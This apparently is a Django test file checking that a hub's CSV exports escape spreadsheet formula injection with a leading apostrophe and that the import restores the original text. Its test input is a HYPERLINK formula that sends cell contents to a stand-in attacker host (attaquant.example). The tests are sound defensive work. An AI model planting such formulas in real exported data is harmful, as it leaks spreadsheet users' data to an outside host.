"""CSV formula injection: titles, agencies and AI systems that a spreadsheet would run as a
formula are written with one leading apostrophe in every CSV the hub gives out (the
``export_casefiles`` command, ``/api/v1/casefiles.csv``, the open-data files), and the import
removes exactly one, so what was typed comes back and export → import → export is unchanged.

Files are read with the ``csv`` module, never with the code under test; the expected cells
follow the published convention: one apostrophe in front of a cell beginning with
``= + - @``, a tab, a carriage return or an apostrophe."""

import csv
import html
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation

from advocacy.models import AgreementParty
from hub.data_folder import open_data_root
from hub.models import Organization, PublicIdSequence
from impacts.models import CaseFilePage
from open_data.build import build_open_data
from registry.models import SystemPage
from search.backends import get_backend
from search.index import rebuild_index
from tests.factories import (
    AdvocacyBriefPageFactory,
    CaseFilePageFactory,
    CollaborationAgreementPageFactory,
    OrganizationFactory,
)

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# What each text begins with; after a tab or a carriage return comes a formula, since the
# import and the export trim blanks at the ends of a cell.
STARTS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t=",
    "carriage return": "\r=",
    "apostrophe": "'=",
}
HEADER = (
    "id,locale,title,summary,plain_summary,services,regions,risks,impact_level,agency,"
    "ai_system,status,first_reported,sources,published"
)


def typed(start, what):
    """A text as a contributor might type it, and what the hub keeps of it (ends trimmed)."""
    text = f'{start}HYPERLINK("https://attaquant.example/?"&A1;"{what}")'
    return text, text.strip()


def casefile_with(name, start):
    title, _ = typed(start, "titre")
    agency, _ = typed(start, "agence")
    system, _ = typed(start, "système")
    return CaseFilePageFactory(
        title=title,
        slug=f"dossier-{name.replace(' ', '-')}",
        agency=OrganizationFactory(name=agency),
        ai_system=system,
    )


def rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def export_text():
    stdout = io.StringIO()
    call_command("export_casefiles", "-", stdout=stdout)
    return stdout.getvalue()


def import_text(tmp_path, text):
    path = tmp_path / "import.csv"
    path.write_text(text, encoding="utf-8")
    call_command("import_casefiles", str(path), stdout=io.StringIO(), stderr=io.StringIO())


def cells_starting_dangerously(text):
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(DANGEROUS)
    ]


def assert_escaped(row, start):
    """The three cells hold the trimmed text with exactly one apostrophe in front."""
    assert (row["title"], row["agency"], row["ai_system"]) == tuple(
        "'" + typed(start, what)[1] for what in ("titre", "agence", "système")
    )


@pytest.fixture
def casefiles(site_pages):
    return {name: casefile_with(name, start) for name, start in STARTS.items()}


@pytest.mark.parametrize("name", STARTS)
def test_export_casefiles_escapes_cells_a_spreadsheet_would_run(site_pages, name):
    page = casefile_with(name, STARTS[name])
    text = export_text()
    assert cells_starting_dangerously(text) == []
    (row,) = [row for row in rows(text) if row["id"] == page.public_id]
    assert_escaped(row, STARTS[name])


@pytest.mark.parametrize("name", STARTS)
def test_api_casefiles_csv_escapes_cells_a_spreadsheet_would_run(client, site_pages, name):
    page = casefile_with(name, STARTS[name])
    rebuild_index(get_backend())
    for params in ({}, {"q": "HYPERLINK"}, {"locale": "fr"}):
        response = client.get("/api/v1/casefiles.csv", params)
        assert response.status_code == 200
        text = b"".join(response.streaming_content).decode("utf-8")
        assert cells_starting_dangerously(text) == []
        (row,) = [row for row in rows(text) if row["id"] == page.public_id]
        assert_escaped(row, STARTS[name])


def test_open_data_casefiles_csv_escapes_cells_a_spreadsheet_would_run(casefiles):
    build_open_data()
    text = (open_data_root() / "vigie-casefiles.csv").read_text(encoding="utf-8")
    assert cells_starting_dangerously(text) == []
    by_id = {row["id"]: row for row in rows(text)}
    for name, page in casefiles.items():
        assert_escaped(by_id[page.public_id], STARTS[name])


def test_open_data_briefs_and_agreements_csv_escape_cells_a_spreadsheet_would_run(site_pages):
    for name, start in STARTS.items():
        slug = name.replace(" ", "-")
        AdvocacyBriefPageFactory(title=typed(start, "mémoire")[0], slug=f"memoire-{slug}")
        party = OrganizationFactory(name=typed(start, "partie")[0], kind=Organization.Kind.MUNICIPALITY)
        CollaborationAgreementPageFactory(
            title=typed(start, "entente")[0],
            slug=f"entente-{slug}",
            parties=[{"organization": party}, {"role": AgreementParty.Role.NON_PROFIT}],
        )
    build_open_data()
    root = open_data_root()
    briefs = (root / "vigie-briefs.csv").read_text(encoding="utf-8")
    agreements = (root / "vigie-agreements.csv").read_text(encoding="utf-8")
    assert cells_starting_dangerously(briefs) == []
    assert cells_starting_dangerously(agreements) == []
    assert sorted(row["title"] for row in rows(briefs)) == sorted(
        "'" + typed(start, "mémoire")[1] for start in STARTS.values()
    )
    agreement_rows = rows(agreements)
    assert sorted(row["title"] for row in agreement_rows) == sorted(
        "'" + typed(start, "entente")[1] for start in STARTS.values()
    )
    parties = sorted(row["parties"].split("|")[0] for row in agreement_rows)
    assert parties == sorted("'" + typed(start, "partie")[1] for start in STARTS.values())


def test_import_reads_back_exactly_what_was_typed(site_pages, tmp_path):
    """A hand-written file: escaped cells lose one apostrophe, no more; unescaped ones stay."""
    lines = [HEADER]
    expected = {}
    for number, (name, start) in enumerate(STARTS.items(), start=1):
        public_id = f"CF-2024-{number:04d}"
        title, kept = typed(start, name)
        row = [public_id, "fr", "'" + title, "Résumé.", "Résumé simple.", "sante", "montreal", "", ""]
        row += ["'" + kept + " agence", "'" + kept + " système", "pilot", "", "", "true"]
        output = io.StringIO()
        csv.writer(output, lineterminator="\n").writerow(row)
        lines.append(output.getvalue().removesuffix("\n"))
        expected[public_id] = (kept, kept + " agence", kept + " système")
    lines.append(
        "CF-2024-0100,fr,Sans apostrophe,Résumé.,Résumé simple.,sante,montreal,,,=Agence,-Système,pilot,,,true"
    )
    expected["CF-2024-0100"] = ("Sans apostrophe", "=Agence", "-Système")
    import_text(tmp_path, "\n".join(lines) + "\n")
    imported = {
        page.public_id: (page.title, page.agency.name, page.ai_system)
        for page in CaseFilePage.objects.select_related("agency")
    }
    assert imported == expected


def test_export_import_into_an_empty_database_export_is_byte_identical(casefiles, tmp_path):
    kept = {page.public_id: typed(STARTS[name], "titre")[1] for name, page in casefiles.items()}
    first = export_text()
    assert len(rows(first)) == len(STARTS)
    assert cells_starting_dangerously(first) == []

    for page in [*CaseFilePage.objects.order_by("-pk"), *SystemPage.objects.order_by("-pk")]:
        page.delete()
    Organization.objects.all().delete()
    PublicIdSequence.objects.all().delete()
    assert export_text() == HEADER + "\r\n"

    import_text(tmp_path, first)
    assert dict(CaseFilePage.objects.values_list("public_id", "title")) == kept
    assert export_text().encode("utf-8") == first.encode("utf-8")


@pytest.mark.parametrize("language", ["fr", "en"])
def test_the_data_dictionary_says_how_a_cell_is_escaped(site_pages, client, language):
    build_open_data()
    dictionary = json.loads((open_data_root() / "data-dictionary.json").read_text(encoding="utf-8"))
    escaping = dictionary["escaping"]
    assert escaping["prefix"] == "'"
    assert sorted(escaping["when_cell_starts_with"]) == sorted([*DANGEROUS, "'"])
    assert escaping["note"]["fr"] != escaping["note"]["en"]
    note = escaping["note"][language]
    assert "=, +, -, @" in note and "apostrophe" in note

    with translation.override(language):
        response = client.get(reverse("data-dictionary"))
    assert response.status_code == 200
    assert html.escape(note) in response.content.decode()


@pytest.mark.parametrize("name", list(STARTS))
def test_wagtail_admin_exports_escape_what_an_editor_typed(name, superuser_client):
    """Reports → Site history's CSV names the page an editor titled: the title is text there too."""
    casefile = casefile_with(name, STARTS[name])
    casefile.save_revision(log_action=True)
    answer = superuser_client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert answer.status_code == 200
    cells = [cell for row in rows(b"".join(answer.streaming_content).decode()) for cell in row.values()]
    typed_title = typed(STARTS[name], "titre")[0]
    titles = [cell for cell in cells if "titre" in cell]
    assert titles, "the export names the case file"
    assert all(not cell.startswith(DANGEROUS) for cell in cells)
    assert f"'{typed_title}" in titles
